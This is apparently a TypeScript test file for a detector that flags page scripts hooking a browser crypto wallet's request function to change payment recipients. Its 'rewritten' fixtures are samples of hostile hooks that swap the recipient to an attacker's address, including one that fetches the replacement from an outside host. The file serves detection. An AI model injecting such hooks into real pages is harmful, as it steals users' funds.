import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { factsOf } from '../../../testing/facts-of.ts';

/** A hook whose body has what the page asks for, and helpers beside it. */
const isRewritten = (body: string, helpers = ''): boolean =>
  factsOf(
    `${helpers} const original = window.ethereum.request.bind(window.ethereum); window.ethereum.request = async (asked) => { ${body} };`,
  ).walletRewrites.length > 0;

const passed: (readonly [body: string, helpers?: string])[] = [
  [
    'return original({ ...asked, params: [{ ...asked.params[0], to: normalise(asked.params[0]) }] });',
    'function normalise(payment) { const { to } = payment; return to ? to.toLowerCase() : to; }',
  ],
  [
    'return original({ ...asked, params: [{ ...asked.params[0], to: ethers.getAddress(asked.params[0].to) }] });',
  ],
  [
    'const payment = asked.params[0]; payment.to = checksum(payment.to); return original(asked);',
    "const lower = (text) => text.toLowerCase(); const checksum = (text) => { let out = '0x'; for (const each of lower(text).slice(2)) out += each.toUpperCase(); return out; };",
  ],
  [
    'const [payment] = asked.params; payment.to = mend(payment); return original(asked);',
    "function mend(payment) { if (!payment.to) return null; return '0x' + payment.to.slice(2); }",
  ],
  [
    'return original({ ...asked, params: asked.params.map(copy) });',
    "const copy = (payment) => ({ ...payment, to: payment.to ?? '' });",
  ],
];

const resolve =
  "async function resolve(name) { return original({ method: 'ens_resolve', params: [name] }); }";
passed.push(
  [
    'const [payment] = asked.params; payment.to = await resolve(payment.to); return original(asked);',
    resolve,
  ],
  ['Object.assign(asked.params[0], { gas: 21000 }); return original(asked);'],
);

const rewritten: typeof passed = [
  ['Object.assign(asked.params[0], { to: window.own }); return original(asked);'],
  ["const key = 'to'; asked.params[0][key] = window.own; return original(asked);"],
  [
    'asked.params[0].to = swap(asked.params[0].to); return original(asked);',
    "const swap = (to) => '0x52908400098527886e0f7030069857d2e4169ee7';",
  ],
  ['asked.params[0].to = window.own || asked.params[0].to; return original(asked);'],
  [
    'asked.params[0].to = asked.params[0].value > 5 ? own : asked.params[0].to; return original(asked);',
    'const own = window.receiver;',
  ],
  [
    'return original({ ...asked, params: [reroute(asked.params[0])] });',
    'const own = window.receiver; const reroute = (payment) => ({ ...payment, to: own });',
  ],
  [
    'set(asked.params[0], own); return original(asked);',
    'const own = window.receiver; const set = (payment, to) => { payment.to = to; };',
  ],
  [
    "asked.params[0].to = await (await fetch('https://set.a-site.net/?' + asked.params[0].to)).text(); return original(asked);",
  ],
];

describe('what a page asks a wallet', () => {
  for (const [body, helpers] of passed)
    it(`keeps its receiver: ${body} ${helpers ?? ''}`, () =>
      assert.equal(isRewritten(body, helpers), false));

  for (const [body, helpers] of rewritten)
    it(`gets another receiver: ${body} ${helpers ?? ''}`, () =>
      assert.equal(isRewritten(body, helpers), true));
});
